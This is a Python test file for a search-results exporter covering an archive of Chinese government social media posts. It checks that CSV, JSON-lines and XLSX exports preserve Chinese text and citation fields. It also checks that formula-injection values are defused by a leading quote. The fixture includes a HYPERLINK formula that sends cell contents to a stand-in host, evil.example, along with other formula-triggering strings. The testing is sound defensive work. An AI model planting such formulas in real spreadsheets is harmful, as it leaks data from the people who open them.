"""Exports are read back: the citation columns and the Chinese text must survive each format."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from catalog.search import SearchError, open_index
from catalog.search.document import IndexedPost
from catalog.search.export import COLUMNS, export
from weidang.cli import main

CST = dt.timezone(dt.timedelta(hours=8))


@pytest.fixture
def hits(tmp_path):
    posts = [
        IndexedPost(platform="weibo", account_id="2803301701", account_name="北京发布",
                    post_id=f"p{i}", version=1, url=f"https://weibo.com/2803301701/p{i}",
                    published_at=dt.datetime(2024, 3, i, 9, 0, tzinfo=CST),
                    captured_at=dt.datetime(2024, 4, 1, tzinfo=dt.UTC),
                    text=f"第{i}条：加强档案管理工作", warc_file="w.warc.gz",
                    warc_record_id=f"<urn:uuid:{i}>", payload_sha256=f"{i}" * 64, demo=i == 2)
        for i in (1, 2)
    ]
    with open_index("sqlite", tmp_path / "s.sqlite") as index:
        index.upsert(posts)
        return list(index.scan("档案管理"))


def test_csv_has_a_bom_for_excel_and_the_citation(hits, tmp_path):
    path = tmp_path / "results.csv"
    assert export(hits, path) == 2
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == COLUMNS
    by_id = {r["post_id"]: r for r in rows}
    assert by_id["p1"]["account_name"] == "北京发布"
    assert by_id["p1"]["published_at"] == "2024-03-01T09:00:00+08:00"
    assert by_id["p1"]["warc_record_id"] == "<urn:uuid:1>"
    assert by_id["p1"]["payload_sha256"] == "1" * 64
    assert "«档案管理»" in by_id["p1"]["snippet"]
    assert (by_id["p1"]["demo"], by_id["p2"]["demo"]) == ("no", "yes")


def test_json_lines(hits, tmp_path):
    path = tmp_path / "results.json"
    export(hits, path)
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 2 and set(rows[0]) == set(COLUMNS)
    assert {r["post_id"]: r["demo"] for r in rows} == {"p1": False, "p2": True}
    assert "北京发布" in path.read_text(encoding="utf-8")  # not \u escapes


def test_xlsx(hits, tmp_path):
    path = tmp_path / "results.xlsx"
    export(hits, path)
    sheet = load_workbook(path, read_only=True)["results"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert tuple(rows[0]) == COLUMNS
    body = {r[COLUMNS.index("post_id")]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert body["p2"]["url"] == "https://weibo.com/2803301701/p2"
    assert body["p2"]["demo"] == "yes" and body["p2"]["account_name"] == "北京发布"
    assert body["p2"]["captured_at"] == "2024-04-01T00:00:00+00:00"


def test_unknown_format_is_a_plain_error(hits, tmp_path):
    with pytest.raises(SearchError, match="use a .csv"):
        export(hits, tmp_path / "results.pdf")


HOSTILE = {"account_name": "-2+3 发布", "title": '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
           "text": "@SUM(1,2) 档案管理"}


@pytest.fixture
def hostile_hits(tmp_path):
    post = IndexedPost(platform="weibo", account_id="2803301701", post_id="p9", version=1,
                       url="https://weibo.com/2803301701/p9",
                       published_at=dt.datetime(2024, 3, 9, 9, 0, tzinfo=CST),
                       captured_at=dt.datetime(2024, 4, 1, tzinfo=dt.UTC), warc_file="w.warc.gz",
                       warc_record_id="<urn:uuid:9>", payload_sha256="9" * 64, **HOSTILE)
    with open_index("sqlite", tmp_path / "h.sqlite") as index:
        index.upsert([post])
        return list(index.scan("档案管理"))


def test_csv_cells_that_would_be_formulas_start_with_a_quote(hostile_hits, tmp_path):
    path = tmp_path / "results.csv"
    export(hostile_hits, path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["title"] == "'" + HOSTILE["title"] and row["account_name"] == "'-2+3 发布"
    assert row["snippet"].startswith("'@SUM(1,2)")
    assert row["url"] == "https://weibo.com/2803301701/p9"  # ordinary text is left alone


def test_xlsx_holds_no_formula_and_text_is_typed_as_text(hostile_hits, tmp_path):
    path = tmp_path / "results.xlsx"
    export(hostile_hits, path)
    sheet = load_workbook(path)["results"]  # not read-only: cells keep their data type
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = dict(zip(COLUMNS, [c.value for c in cells[len(COLUMNS):]], strict=True))
    assert values["title"] == "'" + HOSTILE["title"] and values["account_name"] == "'-2+3 发布"
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_search_export_command_writes_no_live_formula(home, tmp_path, capsys):
    post = IndexedPost(platform="wechat", account_id="MzAxMzgxNzUxOA==", post_id="a1", version=1,
                       url="https://mp.weixin.qq.com/s/a1", account_name="+某县人民政府",
                       published_at=dt.datetime(2024, 3, 9, 9, 0, tzinfo=CST),
                       captured_at=dt.datetime(2024, 4, 1, tzinfo=dt.UTC), warc_file="w.warc.gz",
                       warc_record_id="<urn:uuid:a1>", payload_sha256="a" * 64, **{
                           k: v for k, v in HOSTILE.items() if k != "account_name"})
    with open_index("sqlite", Path(home) / "index" / "search.sqlite") as index:
        index.upsert([post])
    assert main(["search", "档案管理", "--export", str(tmp_path / "r.csv")]) == 0
    assert main(["search", "档案管理", "--export", str(tmp_path / "r.xlsx")]) == 0
    assert "Wrote 1 result" in capsys.readouterr().out
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert (row["title"][:2], row["account_name"]) == ("'=", "'+某县人民政府")
    cells = [c for r in load_workbook(tmp_path / "r.xlsx")["results"].iter_rows() for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
